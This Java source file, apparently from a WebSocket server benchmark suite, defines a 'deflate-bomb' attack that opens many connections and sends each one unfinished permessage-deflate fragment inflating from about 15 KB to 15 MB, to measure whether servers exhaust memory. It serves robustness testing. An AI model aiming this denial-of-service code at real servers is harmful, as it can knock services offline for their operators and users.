package dev.wskit.benchmarks.attack;

/**
 * Many connections, each negotiating permessage-deflate and sending one unfinished compressed
 * message: a first fragment (FIN clear, RSV1 set, RFC 7692 §6) of about 15 KB that inflates to
 * about 15 MB, then nothing. A server that inflates a fragment in full before checking the
 * message limit, or keeps each connection's inflated bytes while waiting for the rest, holds
 * connections × 15 MB; one that inflates against the limit as bytes arrive holds little.
 */
final class DeflateBomb implements Attack {
    @Override
    public String name() {
        return "deflate-bomb";
    }

    @Override
    public String description() {
        return "N connections, each one unfinished compressed fragment (~15 KB inflating to ~15 MB), then idle";
    }

    @Override
    public String run(Target target, Scale scale) throws Exception {
        byte[] frame = Frames.frame(Frames.RSV1 | Frames.BINARY, Bombs.zeros(scale.bombInflatedBytes(), false));
        try (Peers peers = Peers.open(target, target.deflateHandshake(), scale.bombConnections())) {
            if (!peers.all.isEmpty() && !peers.all.get(0).agreed("permessage-deflate")) {
                return "permessage-deflate not negotiated: not applicable";
            }
            for (Peer peer : peers.all) {
                peer.write(frame);
            }
            Peers.hold(scale.holdMillis());
            return peers.fates() + " (" + frame.length / 1000 + " KB each on the wire)";
        }
    }
}
